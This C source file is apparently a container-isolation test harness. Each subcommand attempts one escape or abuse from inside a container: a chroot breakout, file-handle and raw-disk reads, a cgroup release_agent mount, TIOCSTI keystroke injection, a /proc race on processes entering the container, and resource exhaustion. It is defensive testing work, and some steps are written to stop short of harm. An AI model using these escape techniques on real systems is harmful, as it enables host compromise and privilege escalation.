// What is tried from inside a container, one attack a word. Each says what it got, or the call that was refused
// and why. Nothing here does harm where it works: what would is only asked for in a way that fails later.
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/loop.h>
#include <linux/perf_event.h>
#include <mqueue.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/timex.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static _Noreturn void refused(const char *call) {
    printf("%s: %s\n", call, strerrorname_np(errno));
    exit(1);
}

static _Noreturn void got(const char *what) {
    printf("got %s\n", what);
    exit(0);
}

static long must(const char *call, long result) {
    if (result < 0) refused(call);
    return result;
}

// The kernel asks for permission first, and looks at the arguments then: these are wrong.
static void only_asks(const char *call, long result) {
    if (result < 0 && (errno == EPERM || errno == EACCES || errno == ENOSYS)) refused(call);
    got("past the lock");
}

// ---- files of the host's -------------------------------------------------------------

// Reads the host's secret, which is all in one line.
static void read_secret(int fd) {
    char secret[64] = "";
    if (must("read", pread(fd, secret, sizeof secret - 1, 0)) == 0) errno = ENODATA, refused("read");
    if (strncmp(secret, "secret", 6)) errno = ENODATA, refused("read");
    got("the host's secret");
}

static void open_secret(char **words) { read_secret(must("open", open(words[0], O_RDONLY))); }

// chroot(2) moves the root and not the working directory.
static void breakout(char **words) {
    mkdir("/tmp/hole", 0755);
    must("chroot", chroot("/tmp/hole"));
    for (int i = 0; i < 64; i++) must("chdir", chdir(".."));
    must("chroot", chroot("."));
    open_secret(words);
}

static void descriptor(char **words) {
    for (int fd = 3; fd < 256; fd++)
        if (pread(fd, words, 1, 0) == 1) read_secret(fd);
    refused("read");
}

// It has come in by a descriptor, and is the host's file to overwrite.
static void program(char **words) { (void)words; got("a program of the host's run"); }

// A directory of the host's that was left open, by way of the working directory.
static void directory(char **words) {
    char up[4096] = "";
    for (int i = 0; i < 64; i++) strcat(up, "../");
    read_secret(must("open", open(strcat(up, words[0] + 1), O_RDONLY)));
}

static void by_handle(char **words) {
    struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } handle = {0};
    handle.head.handle_type = atoi(words[1]);
    for (char *hex = words[2]; *hex; hex += 2) {
        unsigned byte;
        sscanf(hex, "%2x", &byte);
        handle.head.f_handle[handle.head.handle_bytes++] = byte;
    }
    int mount = must("open", open(words[0], O_RDONLY));
    read_secret(must("open_by_handle_at", open_by_handle_at(mount, &handle.head, O_RDONLY)));
}

static void disk(char **words) {
    unsigned major, minor;
    sscanf(words[0], "%u:%u", &major, &minor);
    must("mknod", mknod("/dev/disk", S_IFBLK | 0600, makedev(major, minor)));
    int fd = open("/dev/disk", O_RDONLY);
    unlink("/dev/disk");
    read_secret(must("open", fd));
}

// Opened and not written to.
static void writes(char **words) {
    must("open", open(words[0], O_WRONLY));
    got("a way to write it");
}

static void reads(char **words) {
    char byte;
    if (must("read", read(must("open", open(words[0], O_RDONLY)), &byte, 1)) == 0) errno = ENODATA, refused("read");
    got("what the host alone should know");
}

// To the mode that it has.
static void chmods(char **words) {
    struct stat about;
    must("stat", stat(words[0], &about));
    // A copy in memory is no file of the host's, and has no name anywhere.
    if (about.st_nlink == 0) errno = ENODATA, refused("stat");
    must("chmod", chmod(words[0], about.st_mode & 07777));
    got("a file of the host's to change");
}

// A new hierarchy of version 1, so that nobody's is touched. It ends with the mount.
static void release_agent(char **words) {
    (void)words;
    mkdir("/tmp/tree", 0755);
    must("mount", mount("cgroup", "/tmp/tree", "cgroup", 0, "none,name=rubber-attack"));
    int agent = open("/tmp/tree/release_agent", O_WRONLY);
    close(agent);
    umount("/tmp/tree");
    must("open", agent);
    got("a program of its own, run by the host");
}

// ---- what was only lent ------------------------------------------------------------------

// stdout is open for writing, and its file may be nobody's to read: by its name in /proc it is opened anew.
static void reopens(char **words) {
    (void)words;
    read_secret(must("open", open("/proc/self/fd/1", O_RDONLY | O_NONBLOCK)));
}

static void looks_around(char **words) { read_secret(must("openat", openat(0, words[0], O_RDONLY))); }

// ---- mounts ----------------------------------------------------------------------------

static void mounts(char **words) {
    must("mount", mount("tmpfs", words[0], "tmpfs", 0, NULL));
    got("a mount");
}

static void remounts(char **words) {
    must("mount", mount(NULL, words[0], NULL, MS_REMOUNT | MS_BIND, NULL));
    got("it writable");
}

static void unmounts(char **words) {
    must("umount2", umount2(words[0], MNT_DETACH));
    got("what was below");
}

// ---- processes of the host's -----------------------------------------------------------

static void kills(char **words) {
    must("kill", kill(atoi(words[0]), SIGUSR1));
    got("a signal through");
}

static void traces(char **words) {
    must("ptrace", ptrace(PTRACE_SEIZE, atoi(words[0]), 0, 0));
    got("hold of a process");
}

static void socket_of_host(char **words) {
    struct sockaddr_un name = {.sun_family = AF_UNIX};
    strcpy(name.sun_path + 1, words[0]);
    int fd = must("socket", socket(AF_UNIX, SOCK_STREAM, 0));
    must("connect", connect(fd, (void *)&name, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(words[0])));
    got("an answer");
}

static void keyring(char **words) {
    long key = must("keyctl", syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3 /* the session's */, "user", words[0], 0));
    char secret[64] = "";
    must("keyctl", syscall(SYS_keyctl, 11 /* KEYCTL_READ */, key, secret, sizeof secret));
    got("the caller's key");
}

static void types(char **words) {
    (void)words;
    must("ioctl", ioctl(0, TIOCSTI, "x"));
    got("a key typed at the caller's terminal");
}

// The kernel takes the command for 32 bits wide, and whoever compares all 64 lets it pass.
static void types_wide(char **words) {
    (void)words;
    must("ioctl", syscall(SYS_ioctl, 0L, 1L << 40 | TIOCSTI, "x"));
    got("a key typed at the caller's terminal");
}

static void queue(char **words) {
    must("mq_open", mq_open(words[0], O_RDONLY));
    got("the host's queue");
}

// ---- a process on its way in ---------------------------------------------------------------

// -1 where there is nothing: it may have ended.
static int says(int pid, const char *file, const char *what) {
    char path[64], text[4096];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, file);
    int fd = open(path, O_RDONLY);
    ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text);
    close(fd);
    return length <= 0 ? -1 : memmem(text, length, what, strlen(what)) != NULL;
}

// Not yet the command, which is a copy of ourselves.
static int is_on_its_way(int pid, const char *mark) { return says(pid, "cmdline", mark) == 1 && says(pid, "comm", "attack") == 0; }

// Whether the host's file is below or above what the link leads to. What counts as refused is only what was forbidden.
static int leads(int pid, const char *link, const char *secret, int *forbidden) {
    char path[8192], up[128] = "";
    for (int i = 0; i < 32 && strcmp(link, "root"); i++) strcat(up, "/..");
    snprintf(path, sizeof path, "/proc/%d/%s%s%s", pid, link, up, secret);
    int fd = open(path, O_RDONLY);
    if (fd < 0 && (errno == EACCES || errno == EPERM)) *forbidden = errno;
    char bytes[6] = "";
    int is_it = fd >= 0 && pread(fd, bytes, sizeof bytes, 0) == sizeof bytes && !memcmp(bytes, "secret", sizeof bytes);
    close(fd);
    return is_it;
}

// What of the host's it can be made to give: its root, its directory, a directory it has open, its memory.
static const char *reach(int pid, const char *mark, const char *secret, int *forbidden) {
    char path[64];
    if (leads(pid, "root", secret, forbidden) || leads(pid, "cwd", secret, forbidden)) return "the host's secret";
    for (int fd = 0; fd < 16; fd++) {
        snprintf(path, sizeof path, "fd/%d", fd);
        if (leads(pid, path, secret, forbidden)) return "the host's secret";
    }
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDWR);
    close(mem);
    // Its memory is another's once it is the command, and so is its name.
    return mem >= 0 && is_on_its_way(pid, mark) ? "the memory of a process of the runtime's" : NULL;
}

// Asks again and again whether it may be looked into, and stops it there once it may.
static void seize(int pid, const char *mark, const char *secret, int *forbidden) {
    char root[64], what[8];
    snprintf(root, sizeof root, "/proc/%d/root", pid);
    ssize_t length;
    while ((length = readlink(root, what, sizeof what)) < 0 && errno == EACCES) *forbidden = errno;
    if (length < 0) return;
    kill(pid, SIGSTOP);
    const char *reached = is_on_its_way(pid, mark) ? reach(pid, mark, secret, forbidden) : NULL;
    kill(pid, SIGCONT);
    if (reached) got(reached);
}

// Watches for those that come in with a word of their own on the command line, until there were enough.
static void newcomers(char **words) {
    char mark[64];
    snprintf(mark, sizeof mark, "newcomer-%s", words[0]);
    int forbidden = 0, last = 0;
    puts("ready");
    fflush(stdout);
    for (int seen = 0; seen < 5 || !forbidden;) {
        DIR *all = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(all));) {
            int pid = isdigit(*entry->d_name) ? atoi(entry->d_name) : 0;
            if (pid == 0 || !is_on_its_way(pid, mark)) continue;
            seize(pid, mark, words[1], &forbidden);
            seen += pid != last;
            last = pid;
        }
        closedir(all);
    }
    errno = forbidden;
    refused("open");
}

// ---- the kernel --------------------------------------------------------------------------

static void bpf_map(char **words) {
    (void)words;
    union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    must("bpf", syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof map));
    got("a map");
}

static void perf(char **words) {
    (void)words;
    struct perf_event_attr clock = {.type = PERF_TYPE_SOFTWARE, .size = sizeof clock, .config = PERF_COUNT_SW_CPU_CLOCK};
    must("perf_event_open", syscall(SYS_perf_event_open, &clock, -1, 0, -1, 0));
    got("a look at all processes");
}

static void kexec(char **words) { (void)words; only_asks("kexec_load", syscall(SYS_kexec_load, 0, 17L, NULL, 0L)); }
static void module(char **words) { (void)words; only_asks("init_module", syscall(SYS_init_module, NULL, 0L, NULL)); }
static void restart(char **words) { (void)words; only_asks("reboot", syscall(SYS_reboot, 0, 0, 0, NULL)); }
static void kernel_log(char **words) {
    static char log[4096];
    (void)words;
    must("syslog", syscall(SYS_syslog, 3 /* SYSLOG_ACTION_READ_ALL */, log, sizeof log));
    got("what the kernel has told");
}

static void swap(char **words) { (void)words; only_asks("swapon", syscall(SYS_swapon, "/nothing", 0)); }

// Writes what is there already: how wrong the clock may be.
static void clock_of_host(char **words) {
    (void)words;
    struct timex time = {0};
    must("adjtimex", adjtimex(&time));
    time.modes = ADJ_ESTERROR;
    must("adjtimex", adjtimex(&time));
    got("a hand on the clock");
}

static void raw(char **words) {
    (void)words;
    must("socket", socket(AF_PACKET, SOCK_RAW, 0));
    got("every packet");
}

// As above, of a family.
static void vsock(char **words) {
    (void)words;
    only_asks("socket", syscall(SYS_socket, 1L << 32 | AF_VSOCK, (long)SOCK_STREAM, 0L));
}

static void userns(char **words) {
    (void)words;
    must("unshare", unshare(CLONE_NEWUSER));
    got("all capabilities of a new user namespace");
}

// ---- more than it was given ----------------------------------------------------------------

// A set-user-ID copy of ourselves, run by somebody who is not root.
static void setuid_program(char **words) {
    (void)words;
    if (getuid() != 0) must("setuid", setuid(0)), got("root");
    must("setuid", setuid(1000));
    execl("/tmp/gift", "gift", "setuid", NULL);
    refused("execve");
}

// A file that gives CAP_NET_RAW to who has it in the inheritable set: a copy of ourselves.
static void inheritable(char **words) {
    (void)words;
    if (getuid() != 0) {
        raw(words);
    }
    unsigned capability[5] = {0x02000001, 0, 1 << 13, 0, 0};
    must("setxattr", setxattr("/tmp/gift", "security.capability", capability, sizeof capability, 0));
    must("setuid", setuid(1000));
    execl("/tmp/gift", "gift", "inheritable", NULL);
    refused("execve");
}

static void forks(char **words) {
    int most = atoi(words[0]), failed = 0;
    pid_t children[1000];
    int count = 0;
    while (count < most && !failed) {
        pid_t child = fork();
        if (child == 0) pause(), _exit(0);
        if (child < 0) failed = errno;
        else children[count++] = child;
    }
    for (int i = 0; i < count; i++) kill(children[i], SIGKILL);
    while (wait(NULL) > 0) {}
    if (failed) errno = failed, refused("fork");
    got("as many processes as it wants");
}

static void memory(char **words) {
    size_t bytes = (size_t)atoi(words[0]) << 20;
    pid_t child = must("fork", fork());
    if (child == 0) {
        char *much = malloc(bytes);
        memset(much, 1, bytes);
        _exit(much[bytes / 2] - 1);
    }
    int status;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) errno = ENOMEM, refused("memory");
    got("as much memory as it wants");
}

static void descriptors(char **words) {
    for (int i = 0; i < atoi(words[0]); i++) must("open", open("/dev/null", O_RDONLY));
    got("as many descriptors as it wants");
}

static void queues(char **words) {
    for (int i = 0; i < atoi(words[0]); i++) {
        char name[24];
        snprintf(name, sizeof name, "/many-%d", i);
        must("mq_open", mq_open(name, O_CREAT | O_RDONLY, 0600, NULL));
    }
    got("as many queues as it wants");
}

static void fills(char **words) {
    static char much[1 << 20];
    int file = must("open", open(words[0], O_WRONLY | O_CREAT, 0600));
    int failed = 0;
    for (int i = 0; i < atoi(words[1]) && !failed; i++)
        if (write(file, much, sizeof much) < (ssize_t)sizeof much) failed = ENOSPC;
    unlink(words[0]);
    if (failed) errno = failed, refused("write");
    got("as much of the host's memory as it wants");
}

static const struct { const char *name; void (*attack)(char **words); } ATTACKS[] = {
    {"open", open_secret}, {"breakout", breakout}, {"descriptor", descriptor}, {"directory", directory},
    {"by_handle", by_handle}, {"disk", disk}, {"writes", writes}, {"release_agent", release_agent}, {"chmods", chmods}, {"reads", reads}, {"queues", queues},
    {"mounts", mounts}, {"remounts", remounts}, {"unmounts", unmounts}, {"kills", kills}, {"traces", traces},
    {"socket", socket_of_host}, {"keyring", keyring}, {"types", types}, {"queue", queue}, {"bpf", bpf_map},
    {"perf", perf}, {"kexec", kexec}, {"module", module}, {"restart", restart}, {"log", kernel_log}, {"swap", swap},
    {"clock", clock_of_host}, {"raw", raw}, {"userns", userns}, {"setuid", setuid_program},
    {"inheritable", inheritable}, {"forks", forks}, {"memory", memory}, {"descriptors", descriptors},
    {"fills", fills}, {"reopens", reopens}, {"looks_around", looks_around}, {"types_wide", types_wide},
    {"newcomers", newcomers}, {"program", program}, {"vsock", vsock},
};

int main(int count, char **words) {
    for (size_t i = 0; count > 1 && i < sizeof ATTACKS / sizeof *ATTACKS; i++)
        if (!strcmp(ATTACKS[i].name, words[1])) ATTACKS[i].attack(words + 2);
    return 2;
}
